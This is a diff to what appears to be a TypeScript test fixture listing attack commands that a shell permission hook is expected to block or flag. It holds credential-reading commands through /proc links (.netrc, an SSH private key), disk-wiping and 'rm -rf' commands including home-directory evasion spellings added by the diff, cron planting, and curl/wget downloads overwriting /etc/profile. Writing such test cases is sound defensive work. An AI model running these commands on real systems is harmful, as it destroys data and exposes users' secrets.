@@ -58,6 +58,7 @@ export const ATTACKS: Attack[] = [
   // A process's own links lead where only that process knows (the hook is another process).
   ...T('secrets', 'no', 'cat /proc/self/cwd/../../home/ada/.netrc', 'cat /proc/1/cwd/home/ada/.netrc', 'cat /proc/*/cwd/.netrc', 'cd /proc/self/cwd && cat ../.netrc', 'cat /proc/self/task/1/cwd/.netrc', 'cat /proc/1/root/home/ada/.ssh/id_ed25519', 'cat /dev/fd/5', 'echo x > /proc/1/cwd/etc/cron.d/x'),
   // 7. Catastrophic, however spelled.
+  ...T('catastrophic', 'deny', 'rm -rf ${HOME:0:9}', 'rm -rf ${HOME/ada/ada}', 'rm -rf ${HOME,,}', 'rm -rf ${HOME:0:1}'),
   ...T('catastrophic', 'deny',
     'chmod -R 777 /**', 'chmod -R 777 /*', 'rm -rf "${HOME:?}"', 'rm -rf ~/.*', 'rm -rf /e*', 'dd if=/dev/zero of=/dev/vg0/root', 'blkdiscard /dev/sda', 'sgdisk --zap-all /dev/sda', 'parted /dev/sda mklabel gpt', 'wipefs -a /dev/sdb', 'shred /dev/nvme0n1',
     'cp --target-directory=/etc/cron.d evil', 'cp -t /etc/cron.d evil', 'tar -C / -xf x.tar', 'tar -xPf x.tar', 'curl -o /etc/profile https://x', 'wget -O /etc/profile https://x', 'sort -o /etc/hosts x', 'git log --output=/etc/profile', 'echo x > /proc/self/root/etc/passwd', 'echo b > /proc/sysrq-trigger',
